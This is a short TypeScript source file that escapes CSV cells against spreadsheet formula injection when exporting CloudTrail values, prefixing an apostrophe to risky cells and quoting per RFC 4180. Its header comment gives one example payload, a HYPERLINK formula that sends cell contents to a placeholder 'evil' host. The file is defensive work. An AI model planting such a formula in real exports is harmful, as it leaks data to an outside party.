// CSV for spreadsheets. CloudTrail values are attacker-controlled, and a spreadsheet treats a
// cell starting with = + - @ (or a tab or carriage return, which some strip before reading) as a
// formula: =HYPERLINK("http://evil/?"&A1) in a user agent would run when the export is opened.
// Such cells get a leading apostrophe (OWASP's advice), which spreadsheets show as text.

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

export function csvCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  let text =
    value instanceof Date
      ? value.toISOString()
      : typeof value === 'object'
        ? JSON.stringify(value)
        : String(value);
  if (FORMULA_START.test(text)) text = `'${text}`;
  return NEEDS_QUOTES.test(text) || text !== text.trim() ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record with its CRLF terminator (RFC 4180). */
export function csvLine(values: readonly unknown[]): string {
  return `${values.map(csvCell).join(',')}\r\n`;
}
